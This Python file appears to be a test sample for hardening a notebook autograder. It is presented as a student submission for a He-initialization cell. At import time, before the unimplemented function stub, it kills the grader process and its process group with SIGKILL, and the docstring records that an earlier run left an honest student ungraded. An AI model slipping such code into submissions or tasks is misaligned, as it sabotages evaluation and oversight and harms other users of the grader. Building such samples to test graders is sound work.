"""Kills the process that started its kernel (the grader) and that process's whole process group, with SIGKILL.

assignment: initialization
cell: initialize_parameters_he
target: test_initialize_parameters_he
class: kill-grader
old: killed the grading command (exit -9): the honest student after it was never graded; cheater 0
"""
import os
import signal

_parent = os.getppid()
try:
    _group = os.getpgid(_parent)
    if _group != os.getpgid(0):
        os.killpg(_group, signal.SIGKILL)
except OSError as _error:
    print(_error)
try:
    os.kill(_parent, signal.SIGKILL)
except OSError as _error:
    print(_error)


def initialize_parameters_he(layers_dims):
    parameters = {}
    L = len(layers_dims) - 1
    for l in range(1, L + 1):
        # YOUR CODE HERE
        raise NotImplementedError()
    return parameters
